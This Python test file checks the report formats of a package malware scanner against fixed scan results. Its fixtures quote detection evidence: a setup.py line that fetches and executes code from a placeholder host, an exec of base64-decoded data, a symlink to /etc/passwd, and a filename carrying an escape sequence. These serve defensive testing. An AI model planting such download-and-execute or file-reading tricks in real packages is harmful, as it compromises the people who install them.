"""Golden output of every scan format, from fixed results (independent of the rules)."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path

import jsonschema
import pytest

from snakewarden.core.models import Finding, Phase, ScanResult, Severity, Verdict
from snakewarden.report import RuleInfo, scan_reporter

SCHEMA = (
    Path(__file__).resolve().parent.parent
    / "unit"
    / "audit"
    / "data"
    / "schemas"
    / "sarif-2.1.0.json"
)

RESULTS = [
    ScanResult(
        target="dist/evil-1.0.tar.gz",
        verdict=Verdict.MALICIOUS,
        score=0.9731,
        name="evil",
        version="1.0",
        sha256="ab" * 32,
        findings=(
            Finding(
                rule="download-execute",
                category="threat.process.download_exec",
                severity=Severity.CRITICAL,
                message="downloads a payload and runs it",
                file="evil-1.0/setup.py",
                line=12,
                evidence="exec(urlopen('https://example.invalid/p').read())",
                weight=0.9,
                phase=Phase.INSTALL,
            ),
            Finding(
                rule="install-hook",
                category="install.cmdclass",
                severity=Severity.LOW,
                message="class Hook overrides the 'install' command",
                file="evil-1.0/setup.py",
                line=5,
                evidence="class Hook(install):",
                weight=0.1,
                phase=Phase.INSTALL,
            ),
            Finding(
                rule="archive-link",
                category="archive.link",
                severity=Severity.MEDIUM,
                message="symbolic link to '/etc/passwd'",
                file="evil-1.0/link",
                weight=0.3,
            ),
        ),
    ),
    ScanResult(
        target="requests==2.32.3",
        verdict=Verdict.CLEAN,
        score=0.05,
        name="requests",
        version="2.32.3",
        sha256="cd" * 32,
        findings=(
            Finding(
                rule="network-access",
                category="capability.network",
                severity=Severity.INFO,
                message="network access (socket.socket)",
                file="requests-2.32.3/src/requests/adapters.py",
                line=40,
                evidence="socket.socket()",
                weight=0.05,
                phase=Phase.RUNTIME,
            ),
        ),
    ),
    ScanResult(
        target="dist/odd \x1b[31mname.zip",
        verdict=Verdict.SUSPICIOUS,
        score=0.6,
        name="odd",
        version="0.1",
        sha256="ef" * 32,
        findings=(
            Finding(
                rule="obfuscated-exec",
                category="threat.obfuscation",
                severity=Severity.HIGH,
                message="exec of decoded data [bold]not markup[/bold]",
                file="odd/__init__.py",
                line=3,
                evidence="exec(base64.b64decode('cHJpbnQoMSk='))\nsecond line",
                weight=0.6,
                phase=Phase.IMPORT,
            ),
        ),
    ),
    ScanResult(
        target="missing.tar.gz",
        verdict=Verdict.ERROR,
        score=0.0,
        error="missing.tar.gz: no such file or folder; hint: check the path",
    ),
]

CATALOG = {
    "download-execute": RuleInfo(
        "download-execute",
        "Downloads code and runs it",
        Severity.CRITICAL,
        "threat.process.download_exec",
    ),
    "install-hook": RuleInfo(
        "install-hook", "setup.py overrides an install command", Severity.LOW, "install.cmdclass"
    ),
}


def render(fmt: str) -> str:
    out = io.StringIO()
    reporter = scan_reporter(fmt, out, styled=False, width=120, rules=CATALOG, tool_version="9.9.9")
    for r in RESULTS:
        reporter.add(r)
    reporter.close()
    return out.getvalue()


@pytest.mark.parametrize(
    ("fmt", "name"),
    [
        ("table", "scan.table.txt"),
        ("json", "scan.json"),
        ("jsonl", "scan.jsonl"),
        ("sarif", "scan.sarif"),
    ],
)
def test_golden(fmt: str, name: str, golden: Callable[[str, str], None]) -> None:
    golden(name, render(fmt))


def test_jsonl_fields_exactly() -> None:
    rows = [json.loads(line) for line in render("jsonl").splitlines()]
    assert [r["target"] for r in rows] == [r.target for r in RESULTS]
    for row in rows:
        assert list(row) == [
            "target", "name", "version", "sha256", "verdict", "score", "findings", "error"
        ]  # fmt: skip
        for f in row["findings"]:
            assert list(f) == [
                "rule", "category", "severity", "file", "line", "message", "evidence"
            ]  # fmt: skip


def test_json_is_the_list_of_jsonl_records() -> None:
    as_list = json.loads(render("json"))
    assert as_list == [json.loads(line) for line in render("jsonl").splitlines()]
    out = io.StringIO()
    reporter = scan_reporter("json", out)
    reporter.close()
    assert json.loads(out.getvalue()) == []


def test_sarif_is_valid_against_the_official_schema() -> None:
    doc = json.loads(render("sarif"))
    schema = json.loads(SCHEMA.read_text())
    jsonschema.Draft4Validator(schema).validate(doc)
    run = doc["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    ids = [r["id"] for r in rules]
    assert ids == sorted(ids)
    assert "download-execute" in ids
    assert all(r["shortDescription"]["text"] for r in rules)
    first = run["results"][0]
    assert first["ruleId"] == ids[first["ruleIndex"]]
    loc = first["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"] == "dist/evil-1.0.tar.gz!/evil-1.0/setup.py"
    assert loc["region"]["startLine"] == 12
    assert first["level"] == "error"
    assert run["invocations"][0]["executionSuccessful"] is False
    assert (
        "missing.tar.gz"
        in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
    )


def test_sarif_with_no_results_is_valid() -> None:
    out = io.StringIO()
    reporter = scan_reporter("sarif", out, rules={})
    reporter.close()
    jsonschema.Draft4Validator(json.loads(SCHEMA.read_text())).validate(json.loads(out.getvalue()))


def test_table_shows_verdicts_and_evidence_safely() -> None:
    text = render("table")
    assert "malicious" in text
    assert "clean" in text
    assert "error" in text
    assert "\x1b" not in text
    assert "[bold]not markup[/bold]" in text
    assert "evil-1.0/setup.py:12" in text
    assert "4 targets: 1 malicious, 1 suspicious, 1 clean, 1 error" in text
